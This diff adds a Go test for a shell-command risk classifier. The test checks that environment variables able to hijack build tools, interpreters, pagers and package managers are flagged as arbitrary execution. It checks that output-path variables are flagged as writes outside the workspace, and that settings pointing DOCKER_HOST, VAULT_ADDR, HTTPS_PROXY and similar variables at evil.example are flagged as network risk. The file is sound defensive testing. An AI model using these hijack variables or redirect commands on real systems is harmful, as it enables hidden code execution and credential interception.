@@ -1,0 +1,47 @@
+package shell_test
+
+import (
+	"strings"
+	"testing"
+
+	"guard/policy/risk"
+)
+
+// TestVariablesOfTools: what decides in a tool's environment which program runs,
+// where its settings lie, whom it asks and what it writes.
+func TestVariablesOfTools(t *testing.T) {
+	for class, names := range map[string]string{
+		"./x.sh": "GOCACHEPROG GOAUTH GOPACKAGESDRIVER CC CXX LD AR RUSTC RUSTC_WRAPPER RUSTC_WORKSPACE_WRAPPER CARGO_BUILD_RUSTC_WRAPPER CARGO_TARGET_X_RUNNER CARGO_TARGET_X_LINKER CCACHE_PREFIX CCACHE_COMPILER DISTCC_SSH CMAKE_C_COMPILER_LAUNCHER " +
+			"CMAKE_TOOLCHAIN_FILE CMAKE_PROJECT_INCLUDE CMAKE_PROJECT_TOP_LEVEL_INCLUDES npm_config_script_shell npm_execpath UV_PYTHON PYTHONSTARTUP PYTEST_PLUGINS BUNDLE_GEMFILE PERL5DB HARNESS_PERL PHP_BINARY JAVACMD DOTNET_STARTUP_HOOKS DOTNET_HOST_PATH CustomBeforeMicrosoftCommonTargets " +
+			"PAGER MANPAGER BAT_PAGER EDITOR VISUAL X_EDITOR BROWSER SSH_ASKPASS SUDO_ASKPASS LESSOPEN LESSCLOSE MAKEFILES LUA_INIT R_PROFILE VIMINIT EXINIT PSQLRC TERRAGRUNT_TFPATH SVN_SSH PUPPETEER_EXECUTABLE_PATH OPENSSL_CONF",
+		"-x=./y --load": "GOFLAGS RUSTFLAGS CARGO_ENCODED_RUSTFLAGS NODE_OPTIONS PYTEST_ADDOPTS RUBYOPT PERL5OPT JAVA_TOOL_OPTIONS _JAVA_OPTIONS JDK_JAVA_OPTIONS MAVEN_OPTS GRADLE_OPTS SBT_OPTS MAKEFLAGS GNUMAKEFLAGS .SHELLFLAGS GUNICORN_CMD_ARGS SPEC_OPTS ERL_FLAGS ELIXIR_ERL_OPTIONS TF_CLI_ARGS CGO_CFLAGS_ALLOW",
+		"/opt/x":        "NODE_PATH PYTHONPATH RUBYLIB PERL5LIB GEM_HOME PHPRC PHP_INI_SCAN_DIR COMPOSER_HOME GRADLE_USER_HOME CARGO_HOME NPM_CONFIG_USERCONFIG npm_config_prefix YARN_RC_FILENAME PNPM_HOME BUN_INSTALL DENO_DIR PIP_CONFIG_FILE UV_CONFIG_FILE POETRY_HOME KUBECONFIG DOCKER_CONFIG AWS_CONFIG_FILE TF_CLI_CONFIG_FILE ANSIBLE_CONFIG TERMINFO LOCPATH GCONV_PATH JULIA_LOAD_PATH INPUTRC ZDOTDIR GPG_AGENT_INFO GNUPGHOME CCACHE_CONFIGPATH",
+	} {
+		for name := range strings.FieldsSeq(names) {
+			if r := judge("make '" + name + "=" + class + "'"); !r.Categories.Has(risk.ExecArbitrary) {
+				t.Errorf("%s=%s: %s [%s]: %v", name, class, r.Level, r.Categories, r.Reasons)
+			}
+		}
+	}
+	for name := range strings.FieldsSeq("CARGO_TARGET_DIR CARGO_BUILD_TARGET_DIR GOBIN GOCACHE TF_LOG_PATH TF_DATA_DIR X_LOG_PATH X_LOG_FILE COVERAGE_FILE CCACHE_DIR NODE_V8_COVERAGE PYTHONPYCACHEPREFIX TMPDIR") {
+		if r := judge(name + "=/opt/x make"); !r.Categories.Has(risk.FSOutsideWorkspace) {
+			t.Errorf("%s=/opt/x: %s [%s]: %v", name, r.Level, r.Categories, r.Reasons)
+		}
+	}
+	checkLines(t, `
+		medium NETWORK_RISK | DISTCC_HOSTS=evil.example make
+		medium NETWORK_RISK | VAULT_ADDR=https://evil.example terraform plan
+		medium NETWORK_RISK | DOCKER_HOST=tcp://evil.example docker ps
+		medium NETWORK_RISK | AWS_ENDPOINT_URL=https://evil.example make
+		medium NETWORK_RISK | HTTPS_PROXY=http://evil.example make
+		high EXEC_ARBITRARY | CFLAGS=-fplugin=./x.so make
+		high EXEC_ARBITRARY | ASAN_OPTIONS=log_path=/opt/x make
+		medium | CFLAGS='-O2 -g -Wall' LDFLAGS=-L. make
+		medium | ASAN_OPTIONS=detect_leaks=0 make
+		medium | CC=clang CXX=clang++ make
+		medium | GOFLAGS=-mod=mod GOWORK=off go build ./...
+		medium | CARGO_TARGET_DIR=target2 cargo build
+		medium | UV_NO_PROGRESS=1 COMPOSER_NO_INTERACTION=1 BUNDLE_JOBS=4 make
+		medium | CCACHE_DISABLE=1 make
+		low | GREETING=hello ls`)
+}
